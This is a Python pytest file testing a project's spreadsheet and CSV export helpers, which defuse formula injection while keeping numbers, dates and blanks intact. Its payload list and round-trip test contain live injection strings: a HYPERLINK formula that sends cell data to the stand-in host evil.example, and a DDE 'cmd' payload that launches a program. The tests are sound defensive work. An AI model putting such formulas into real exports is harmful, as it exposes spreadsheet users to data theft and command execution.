"""Spreadsheet and CSV exports neutralise formulas and keep numbers as numbers."""

from __future__ import annotations

from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import load_workbook

from peiban.core.exports import csv_safe, safe_cell, workbook_bytes

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "-cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1+2",
    "＠SUM(A1)",
    "  =1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_it_neutralises_formula_text(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("value", [-5, -2.5, Decimal("-12.30"), 0, 7, date(2024, 5, 1), True, None])
def test_it_passes_numbers_dates_and_blanks_through(value: object) -> None:
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


@pytest.mark.parametrize("text", ["-5", "-12.5", "+86", "张三", "13800138000", "a=b", ""])
def test_it_keeps_plain_text_and_plain_number_text(text: str) -> None:
    assert safe_cell(text) == text
    assert csv_safe(text) == text


def test_it_joins_lists_and_neutralises_the_result() -> None:
    assert safe_cell(["唱歌", "修电器"]) == "唱歌, 修电器"
    assert safe_cell(["=1+1", "x"]) == "'=1+1, x"


def test_it_makes_aware_datetimes_naive() -> None:
    value = safe_cell(datetime(2024, 5, 1, 2, 0, tzinfo=UTC))
    assert isinstance(value, datetime)
    assert value.tzinfo is None


def test_it_round_trips_through_openpyxl() -> None:
    rows: list[list[object]] = [
        ['=HYPERLINK("http://evil.example")', -5, Decimal("-3.50"), "张三"],
        ["＋1", 2.5, date(2024, 5, 1), "@me"],
        ["bell\x07ring", None, True, "-cmd"],
    ]
    content = workbook_bytes([("People", ["name", "n", "amount", "note"], rows), ("Empty", [], [])])
    workbook = load_workbook(BytesIO(content))
    assert workbook.sheetnames == ["People", "Empty"]
    sheet = workbook["People"]
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert values[0] == ["name", "n", "amount", "note"]
    assert sheet["A1"].font.bold
    assert not sheet["A2"].font.bold
    assert values[1][0] == '\'=HYPERLINK("http://evil.example")'
    assert values[1][1] == -5
    assert values[1][2] == pytest.approx(-3.5)
    assert values[2][0] == "'＋1"
    assert values[2][3] == "'@me"
    assert values[3][0] == "bellring"
    assert values[3][3] == "'-cmd"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_it_builds_a_valid_workbook_with_awkward_sheet_titles() -> None:
    content = workbook_bytes(
        [("a/b:c*?[d]" + "x" * 40, ["h"], [[1]]), ("Same", [], []), ("same", [], [])]
    )
    names = load_workbook(BytesIO(content)).sheetnames
    assert all(len(name) <= 31 for name in names)
    assert len(set(names)) == 3


def test_it_writes_one_empty_sheet_when_given_none() -> None:
    assert load_workbook(BytesIO(workbook_bytes([]))).sheetnames == ["Sheet"]


def test_it_streams_a_generator_of_many_rows() -> None:
    content = workbook_bytes([("Big", ["n"], ([n] for n in range(5000)))])
    sheet = load_workbook(BytesIO(content), read_only=True)["Big"]
    assert sum(1 for _row in sheet.iter_rows()) == 5001
